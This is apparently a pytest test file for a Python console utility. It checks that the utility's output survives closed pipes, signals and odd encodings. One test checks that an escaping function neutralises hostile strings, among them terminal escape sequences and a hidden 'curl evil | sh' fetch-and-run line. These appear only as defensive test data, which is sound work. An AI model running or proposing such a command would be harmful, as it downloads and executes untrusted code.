"""What is shown never ends a run, and never acts upon the terminal."""

from __future__ import annotations

import contextlib
import ctypes
import errno
import io
import os
import select
import subprocess
import sys
from pathlib import Path

import pytest

from hpcdi.utils.console import Relay, escaped, others_to_stderr

PROGRAM = """\
import sys
from hpcdi.utils import console
from hpcdi.utils.log import say

console.prepare(is_run=True)
for number in range(3000):
    say(f"[0:0{number % 10}] return 1.0 \\u00b1 0.5 \\u2026 \\u2192 \\u65e5 {'x' * 80}")
sys.stderr.write("\\u00b1\\n")
sys.stdout.write("unflushed")
with open(sys.argv[1], "w") as file:
    file.write("went on")
"""


def run(tmp_path: Path, shell: str, **variables: str) -> tuple[int, str]:
    """The exit code of a program whose output goes where a shell's line says, and what it read."""
    program = tmp_path / "program.py"
    program.write_text(PROGRAM)
    line = f'"{sys.executable}" "{program}" "{tmp_path}/done" {shell}'
    done = subprocess.run(
        ["bash", "-c", f"{line}; exit ${{PIPESTATUS[0]}}"], env={**os.environ, **variables},
        capture_output=True, text=True, check=False, errors="replace",
    )  # fmt: skip
    assert (tmp_path / "done").read_text() == "went on", done.stderr
    return done.returncode, done.stdout + done.stderr


@pytest.mark.parametrize(
    "shell",
    ["| head -1", "| true", "2>&1 | head -1", ">&-", ">&- 2>&-", "<&- >&- 2>&-", ">/dev/full"],
)
def test_output_that_nobody_reads_ends_nothing(tmp_path: Path, shell: str) -> None:
    code, said = run(tmp_path, shell)
    assert code == 0, said
    assert "Traceback" not in said
    assert "Exception ignored" not in said


def test_a_reader_who_is_slow_sees_how_it_goes_on() -> None:
    """Of a pipe or terminal that somebody who shares it has made non-blocking."""
    program = (
        "import os, sys\nfrom hpcdi.utils import console\nconsole.prepare(is_run=True)\n"
        "os.set_blocking(1, False)\nfor _ in range(2000): print('x' * 99)\n"
        "sys.stderr.write('.')\nsys.stderr.flush()\nsys.stdin.readline()\nprint('the end')"
    )
    variables = {k: value for k, value in os.environ.items() if k != "PYTHONUNBUFFERED"}
    child = subprocess.Popen(
        [sys.executable, "-c", program], env=variables,
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    with child:
        assert child.stdout is not None
        assert child.stderr is not None
        assert child.stderr.read(1) == b"."
        assert len(os.read(child.stdout.fileno(), 1 << 20)) > 1 << 14
        rest, _ = child.communicate(b"\n", timeout=60)
    assert child.returncode == 0
    assert rest.endswith(b"the end\n")


@pytest.mark.parametrize("is_run", [True, False])
def test_a_signal_takes_nothing_from_an_unbuffered_terminal(is_run: bool) -> None:
    """mpirun gives its ranks a terminal; a write of over 2,048 bytes to it is cut by a signal."""
    program = (
        "import signal\nfrom hpcdi.utils import console\n"
        f"console.prepare(is_run={is_run})\n"
        "signal.signal(signal.SIGALRM, lambda *_: None)\n"
        "signal.setitimer(signal.ITIMER_REAL, 2e-4, 2e-4)\n"
        "for i in range(400): print('x' * 9000)\n"
        "signal.setitimer(signal.ITIMER_REAL, 0)"
    )
    ours, theirs = os.openpty()
    child = subprocess.Popen([sys.executable, "-u", "-c", program], stdout=theirs)
    os.close(theirs)
    shown = 0
    with child, contextlib.suppress(OSError):  # it has ended
        while read := os.read(ours, 1 << 16):
            shown += read.count(b"x")
    os.close(ours)
    assert (child.returncode, shown) == (0, 400 * 9000)


@pytest.mark.parametrize("is_run", [True, False])
def test_a_stream_that_others_close_stays_open(is_run: bool) -> None:
    program = (
        "import sys\nfrom hpcdi.utils import console\n"
        f"console.prepare(is_run={is_run})\n"
        "sys.stdout.close()\nsys.__stderr__.close()\nprint('here')\nprint('too', file=sys.stderr)"
    )
    words = [sys.executable, "-c", program]
    done = subprocess.run(words, capture_output=True, text=True, timeout=60, check=False)
    assert (done.returncode, done.stdout, done.stderr) == (0, "here\n", "too\n")


@pytest.mark.parametrize(
    "variables", [{"PYTHONIOENCODING": "ascii"}, {"PYTHONIOENCODING": "ascii:strict"},
                  {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}],
)  # fmt: skip
def test_characters_that_a_terminal_lacks_are_written_in_ascii(
    tmp_path: Path, variables: dict[str, str]
) -> None:
    code, said = run(tmp_path, "| cat", **variables)
    assert code == 0, said
    assert "return 1.0 +- 0.5 ... -> \\u65e5" in said


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain ± text", "plain ± text"),
        ("a\x1b]0;owned\x07\x1b[2J", "a\\x1b]0;owned\\x07\\x1b[2J"),
        ("ok\n  next         curl evil | sh", "ok\\n  next         curl evil | sh"),
        ("a\rb\x9b31m\u202eabc\u2028d\x00", "a\\rb\\x9b31m\\u202eabc\\u2028d\\x00"),
    ],
)
def test_texts_of_files_do_not_act_upon_the_terminal(text: str, shown: str) -> None:
    assert escaped(text) == shown


def test_a_relay_copies_on_when_its_reader_has_gone() -> None:
    """The child's writes never fail, and never block."""
    source, child = os.pipe()
    reader, target = os.pipe()
    relay = Relay(source, target)
    os.write(child, b"heard")
    assert os.read(reader, 100) == b"heard"
    os.close(reader)
    for _ in range(64):
        os.write(child, bytes(1 << 15))
    relay.close()  # another process may still have the pipe
    with pytest.raises(BrokenPipeError):
        os.write(child, b"x")
    for descriptor in (child, target):
        os.close(descriptor)


@pytest.mark.parametrize("is_closed", [True, False])
def test_a_relay_reads_on_when_the_stream_of_a_script_fails(is_closed: bool) -> None:
    """The child would wait for ever, and a run over ranks with it."""

    class Full(io.StringIO):
        def write(self, _text: str) -> int:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    stream = io.StringIO() if is_closed else Full()
    if is_closed:
        stream.close()
    source, child = os.pipe()
    relay = Relay(source, 1, stream)
    for _ in range(64):
        assert select.select([], [child], [], 20)[1], "nobody reads it"
        os.write(child, bytes(1 << 12))
    relay.close()
    os.close(child)


def test_what_others_print_goes_to_standard_error(capfd: pytest.CaptureFixture[str]) -> None:
    library = ctypes.CDLL(None)
    library.fdopen.restype = ctypes.c_void_p
    file = ctypes.c_void_p(library.fdopen(1, b"w"))
    with others_to_stderr():
        print("by Python")
        os.write(1, b"in C\n")
        library.fputs(b"held back by C\n", file)
    with others_to_stderr(False):
        print("as it is")
    print("the result")
    out, err = capfd.readouterr()
    assert out == "as it is\nthe result\n"
    assert "by Python" in err
    assert "in C" in err
    assert "held back by C" in err
